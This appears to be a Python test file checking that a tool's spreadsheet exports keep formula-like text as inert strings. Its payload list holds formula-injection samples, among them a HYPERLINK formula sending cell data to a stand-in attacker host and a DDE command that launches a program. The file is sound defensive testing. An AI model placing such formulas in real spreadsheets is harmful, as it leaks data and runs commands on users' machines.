"""Formula injection: every xlsx tournees writes keeps formula-like text as text, and import reads it back unchanged."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import OK_SMALL, write_tables
from tournees.cli import main
from tournees.io.spreadsheet import FORMULA_START

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "-A1*2", "=1+1", "@cmd"]  # (a leading tab or CR is trimmed by import: not a stored value)


def _tables() -> dict[str, list[dict[str, str]]]:
    tables = {k: [dict(r) for r in v] for k, v in OK_SMALL.items()}
    tables["landlords"][0]["name"] = PAYLOADS[0]
    res = tables["residences"][0]
    res["name"], res["address"], res["commune"] = PAYLOADS[1], PAYLOADS[2], PAYLOADS[3]
    tables["depots"][0]["name"], tables["depots"][0]["address"] = PAYLOADS[4], PAYLOADS[5]
    tables["venues"][0]["name"] = PAYLOADS[6]
    return tables


def _formulas(path: Path) -> list[str]:
    """The <f> elements of every sheet: what a spreadsheet would run."""
    with zipfile.ZipFile(path) as book:
        return [name for name in book.namelist() if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)]


def _text_cells(path: Path) -> dict[str, str]:
    """Every formula-like cell, with its stored type, read back by openpyxl."""
    book = openpyxl.load_workbook(path)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    found[cell.value] = cell.data_type
                    assert cell.quotePrefix, cell.coordinate
    return found


@pytest.fixture
def base(tmp_path: Path) -> Path:
    db = tmp_path / "db.sqlite"
    assert main(["import", str(write_tables(tmp_path / "in", _tables())), "--db", str(db)]) == 0
    return db


def test_export_xlsx_keeps_formulas_as_text_and_round_trips(base: Path, tmp_path: Path) -> None:
    book = tmp_path / "export.xlsx"
    assert main(["export", str(book), "--format", "xlsx", "--db", str(base)]) == 0
    assert _formulas(book) == []
    cells = _text_cells(book)
    assert set(PAYLOADS) <= set(cells) and set(cells.values()) == {"s"}
    again = tmp_path / "again.sqlite"
    assert main(["import", str(book), "--db", str(again)]) == 0
    first, second = tmp_path / "csv1", tmp_path / "csv2"
    assert main(["export", str(first), "--db", str(base)]) == 0
    assert main(["export", str(second), "--db", str(again)]) == 0
    for path in sorted(first.iterdir()):
        assert (second / path.name).read_bytes() == path.read_bytes(), path.name
    import csv

    with (first / "landlords.csv").open(encoding="utf-8-sig") as fh:
        assert next(csv.DictReader(fh))["name"] == PAYLOADS[0]


def test_indicators_workbook_keeps_formulas_as_text(base: Path, tmp_path: Path) -> None:
    out = tmp_path / "ind"
    assert main(["indicators", "--out", str(out), "--db", str(base)]) == 0
    assert _formulas(out / "indicateurs.xlsx") == []
    assert _text_cells(out / "indicateurs.xlsx").get(PAYLOADS[3]) == "s"  # the commune name
